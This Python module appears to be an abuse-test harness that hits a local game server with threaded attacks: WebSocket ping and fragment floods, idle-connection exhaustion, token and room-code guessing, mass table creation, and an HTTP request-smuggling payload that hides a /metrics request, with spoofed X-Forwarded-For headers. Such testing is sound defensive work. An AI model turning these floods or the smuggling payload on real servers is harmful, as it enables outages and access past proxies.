"""The ways to attack: each is called with the server's port and goes on for so many seconds. All come from one address."""
import socket
import threading
import time

from attacks.client import Client, Lost, masked, random_code

ATTACKER = "198.51.100.66"
LONG_GAME = "longgame"


def in_threads(count, work, end):
    """Each thread does `work` again and again, whatever happens to it."""

    def loop():
        while time.monotonic() < end:
            try:
                work(end)
            except (Lost, OSError, KeyError, TypeError):
                time.sleep(0.02)

    threads = [threading.Thread(target=loop, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, end + 1 - time.monotonic()))


def read_all(line):
    """So that it is not for reading slowly that the line ends."""
    try:
        while line.recv(1 << 16):
            pass
    except OSError:
        pass


def make_tables(end, port, robots, seats, ruleset="classic"):
    """New guests with as many tables as each may have, all of them playing."""
    client = Client(port, ATTACKER)
    client.hello()
    for _ in range(4):
        if room := client.create(robots, seats, ruleset):
            client.send({"type": "start", "room": room})
    hold = time.monotonic() + 5
    while time.monotonic() < min(hold, end):
        client.receive(0.5)
    client.close()


def tables(port, seconds):
    """Tables without end, each with strong robots that think."""
    in_threads(40, lambda end: make_tables(end, port, ["master"] * 3, 4), time.monotonic() + seconds)


def robots(port, seconds):
    """Tables of robots alone that play large games."""
    in_threads(20, lambda end: make_tables(end, port, ["master"] * 6, 6, "six"), time.monotonic() + seconds)


def six(port, seconds):
    """Large tables of greedy robots, whose moves are the hardest to find: one such turn once took more than a minute."""
    in_threads(20, lambda end: make_tables(end, port, ["greedy"] * 6, 6, "six"), time.monotonic() + seconds)


def guests(port, seconds):
    """New identities without end."""

    def work(_):
        client = Client(port, ATTACKER)
        client.hello()
        client.close()

    in_threads(20, work, time.monotonic() + seconds)


def tokens(port, seconds):
    """Tokens of nobody, each of which is looked up in the database."""

    def work(end):
        client = Client(port, ATTACKER)
        while time.monotonic() < end:
            client.ask({"type": "hello", "v": 1, "name": "Ann", "token": random_code(32)}, timeout=1)

    in_threads(40, work, time.monotonic() + seconds)


def pings(port, seconds):
    """Control frames as fast as the line takes them."""
    flood = masked(9) * 2000

    def work(end):
        client = Client(port, ATTACKER)
        client.socket.settimeout(1)
        threading.Thread(target=read_all, args=(client.socket,), daemon=True).start()
        while time.monotonic() < end:
            client.send_raw(flood)

    in_threads(4, work, time.monotonic() + seconds)


def fragments(port, seconds):
    """A message that never ends, of empty pieces."""
    flood = masked(0, final=False) * 2000

    def work(end):
        client = Client(port, ATTACKER)
        client.send_raw(masked(1, final=False))
        while time.monotonic() < end:
            client.send_raw(flood)

    in_threads(4, work, time.monotonic() + seconds)


def codes(port, seconds):
    """Codes of private tables, tried one after the other."""

    def work(end):
        client = Client(port, ATTACKER)
        client.hello()
        while time.monotonic() < end:
            client.ask({"type": "join", "room": random_code(6)}, timeout=1)

    in_threads(20, work, time.monotonic() + seconds)


def silence(port, seconds):
    """Lines that are opened and say nothing."""

    def work(end):
        lines = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(100)]
        time.sleep(min(5.0, max(0.0, end - time.monotonic())))
        for line in lines:
            line.close()

    in_threads(10, work, time.monotonic() + seconds)


def exports(port, seconds):
    """The longest finished game there is, asked for again and again by those who do not read the answer."""

    def work(end):
        lines = []
        while time.monotonic() < end and len(lines) < 40:
            line = socket.create_connection(("127.0.0.1", port), timeout=5)
            line.sendall(
                f"GET /api/games/{LONG_GAME}.json HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode() * 5)
            lines.append(line)
            time.sleep(0.02)
        for line in lines:
            line.close()

    in_threads(10, work, time.monotonic() + seconds)


def visits(port, seconds):
    """Onlookers who come to and leave every public table without end."""

    def work(end):
        client = Client(port, ATTACKER)
        client.hello()
        client.send({"type": "lobby", "on": True})
        while time.monotonic() < end:
            message = client.receive(1)
            if message is None or message["type"] != "lobby":
                continue
            for room in message["rooms"]:
                for _ in range(20):
                    client.send({"type": "watch", "room": room["room"]})
                    client.send({"type": "leave", "room": room["room"]})

    in_threads(20, work, time.monotonic() + seconds)


HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
SMUGGLED = (b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
            b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN)) + HIDDEN


def hidden_requests_answered(port):
    """Of ten requests that hide in the body of another, behind one whose line goes on: what proxies would hand to a stranger."""
    answered = 0
    for _ in range(10):
        heard = b""
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as line:
                line.sendall(SMUGGLED)
                line.settimeout(2)
                while (part := line.recv(1 << 16)):
                    heard += part
        except OSError:
            pass
        answered += b"tilefish_rooms" in heard
    return answered


def smuggle(port, seconds):
    """Requests that hide in the bodies of others."""

    def work(end):
        with socket.create_connection(("127.0.0.1", port), timeout=2) as line:
            line.sendall(SMUGGLED.replace(b"Host: a", b"Host: a\r\nX-Forwarded-For: " + ATTACKER.encode()))
            read_all(line)

    in_threads(10, work, time.monotonic() + seconds)


WAYS = {way.__name__: way
        for way in (tables, robots, six, guests, tokens, exports, visits, smuggle, pings, fragments, codes, silence)}
